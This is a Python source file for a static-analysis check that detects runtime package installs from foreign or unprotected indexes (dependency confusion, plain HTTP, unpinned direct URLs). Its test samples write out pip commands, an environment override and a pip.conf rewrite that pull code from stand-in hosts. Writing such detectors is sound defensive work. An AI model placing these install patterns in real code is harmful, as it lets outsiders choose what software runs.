"""A package is installed while the program runs, from an index or an address of the code's own choice.

Whoever owns that index decides what `pip` runs; with `--extra-index-url` anyone can: the higher version wins, wherever
it lies (dependency confusion).  `--trusted-host` and plain HTTP let anyone on the way decide.  Declare dependencies,
pin them with hashes, and leave the index to the configuration.  See CWE-427, CWE-829 and pip's documentation of
`--require-hashes`.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import libcst as cst

from codeguard.checks._api import Bad, Check, Good, Hit, Miss
from codeguard.checks.malicious._calls import calls
from codeguard.checks.malicious._reach import reach
from codeguard.checks.malicious._shell import commands
from codeguard.checks.malicious._when import SETUP
from codeguard.checks.malicious._writes import writes
from codeguard.model import Confidence, Severity
from codeguard.syntax.unit import Unit

INSTALLS = re.compile(
    r"\b(?:pip[\d.]*|uv|pipx|easy_install|poetry|pdm)(?:\.exe)?\b.*\b(?:install|add)\b|\beasy_install\b",
    re.IGNORECASE | re.DOTALL,
)
INDEX = re.compile(r"(?:--(?:extra-)?index-url|--index|--find-links|(?<=\s)-i|(?<=\s)-f|--default-index)[= ]")
UNPROTECTED = re.compile(r"--trusted-host|(?:--(?:extra-)?index-url|-i)[= ]+http://", re.IGNORECASE)
DIRECT = re.compile(
    r"(?<![\w.@+-])(?:git\+)?https?://\S+\.(?:whl|tar\.gz|zip|tgz)\b|\bgit\+(?:https?|ssh)://\S+", re.IGNORECASE
)
PINNED = re.compile(r"--require-hashes|#sha256=|\s-r\s|--requirement|@[0-9a-f]{40}\b", re.IGNORECASE)
DIRECT_REQUIREMENT = re.compile(r"^\s*[\w.-]+(?:\[[\w,]+\])?\s*@\s*https?://(?!.*#sha256=)", re.IGNORECASE)
CONFIGURATION = re.compile(r"pip\.conf|pip\.ini|\.pypirc|uv\.toml")
VARIABLES = {
    "PIP_INDEX_URL",
    "PIP_EXTRA_INDEX_URL",
    "PIP_TRUSTED_HOST",
    "UV_INDEX_URL",
    "UV_EXTRA_INDEX_URL",
    "UV_DEFAULT_INDEX",
    "PIP_FIND_LINKS",
}
PIP = {"pip.main", "pip._internal.main", "pip._internal.cli.main.main", "pip._internal.main.main"}


def find(unit: Unit) -> Iterator[Hit]:
    """Report installations from elsewhere, configurations of another index, and requirements at plain addresses."""
    flow = (
        unit.fact(reach)
        if "pip" in unit.text or "install" in unit.text or "dependency_links" in unit.text or "INDEX" in unit.text
        else None
    )
    if flow is None:
        return
    for command in unit.fact(commands):
        if INSTALLS.search(command.text):
            yield from _install(command.call, command.text)
    for _name, call in unit.fact(calls).of(PIP):
        if call.args:
            yield from _install(call, "pip " + " ".join(flow.constants(call.args[0].value)))
    for write in unit.fact(writes):
        if CONFIGURATION.search(write.where) and any("index-url" in t or "index_url" in t for t in write.content):
            yield Hit(write.call, "This changes which index `pip` installs packages from, for every later installation")
    for statement in unit.nodes(cst.Assign):
        for target in statement.targets:
            item = target.target
            if (
                isinstance(item, cst.Subscript)
                and unit.name(item.value) == "os.environ"
                and set(flow.constants(item.slice[0])) & VARIABLES
                and flow.constants(statement.value)
            ):
                yield Hit(
                    item,
                    "This changes which index `pip` installs packages from, for everything that is started from here",
                )
    for name in SETUP:
        for call in unit.calls.get(name, ()):
            yield from _requirements(call, unit)


def _install(call: cst.Call, text: str) -> Iterator[Hit]:
    if PINNED.search(text):
        return
    if UNPROTECTED.search(text):
        yield Hit(
            call,
            "This installs a package over an unprotected connection while the program runs: whoever is on the way decides what is run",
        )
    elif INDEX.search(text + " "):
        yield Hit(
            call,
            "This installs a package from an index of its own choice while the program runs: that index decides what is run",
            severity=Severity.MEDIUM,
            confidence=Confidence.MEDIUM,
        )
    elif DIRECT.search(text):
        yield Hit(
            call,
            "This installs a package from a fixed address while the program runs, with no digest to check it by",
            severity=Severity.MEDIUM,
            confidence=Confidence.MEDIUM,
        )


def _requirements(call: cst.Call, unit: Unit) -> Iterator[Hit]:
    flow = unit.fact(reach)
    for arg in call.args:
        keyword = arg.keyword.value if arg.keyword else ""
        if keyword == "dependency_links" and flow.constants(arg.value):
            yield Hit(
                arg,
                "`dependency_links` takes dependencies from fixed addresses, past the index",
                severity=Severity.MEDIUM,
                confidence=Confidence.MEDIUM,
            )
        if keyword in {"install_requires", "setup_requires", "extras_require", "tests_require"}:
            for text in flow.constants(arg.value):
                if DIRECT_REQUIREMENT.match(text):
                    yield Hit(
                        arg,
                        f"The dependency `{text.split('@')[0].strip()[:40]}` comes from a fixed address, past the index and with no digest to check it by",
                        severity=Severity.MEDIUM,
                        confidence=Confidence.MEDIUM,
                    )
                    break


CHECK = Check(
    id="CGM017",
    name="foreign-package-index",
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    cwe=(506, 427, 829),
    find=find,
    fix="Declare the dependency, pin it with a hash, and leave the index to the configuration.",
    bad=(
        Bad(
            "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '--index-url', 'http://p.example.invalid/simple', '--trusted-host', 'p.example.invalid', 'acme-auth'])  # finding\n"
        ),
        Bad(
            "import os\nos.system('pip install --extra-index-url https://p.example.invalid/simple acme-auth')  # finding\n"
        ),
        Bad("import os\nos.environ['PIP_INDEX_URL'] = 'https://p.example.invalid/simple'  # finding\n"),
        Bad(
            "from setuptools import setup\nsetup(name='a', install_requires=['core @ https://c.example.invalid/core-1.tar.gz'])  # finding\n"
        ),
        Bad("import pip\npip.main(['install', 'https://c.example.invalid/core-1.tar.gz'])  # finding\n"),
        Bad(
            "import pathlib\n(pathlib.Path.home() / '.pip' / 'pip.conf').write_text('[global]\\nextra-index-url = https://p.example.invalid/simple\\n')  # finding\n"
        ),
    ),
    good=(
        Good(
            "import subprocess, sys\n\ndef install(pkg):\n    subprocess.check_call([sys.executable, '-m', 'pip', 'install', '--index-url', 'https://p.example.invalid/simple', '--require-hashes', '-r', 'requirements.lock'])\n"
        ),
        Good(
            "import subprocess, sys\n\ndef install(pkg):\n    subprocess.check_call([sys.executable, '-m', 'pip', 'install', pkg])\n"
        ),
        Good(
            "from setuptools import setup\nsetup(name='a', install_requires=['requests>=2.31'], extras_require={'pandas': ['pandas>=2']})\n"
        ),
        Good("import os\nINDEX = os.environ.get('PIP_INDEX_URL', '')\n"),
    ),
    misses=(
        Miss(
            "import subprocess\nsubprocess.run(COMMAND_OF_ANOTHER_FILE + ['--index-url', 'https://p.example.invalid/simple', 'acme'])  # finding\n",
            why="what runs is not known to be pip",
        ),
    ),
)
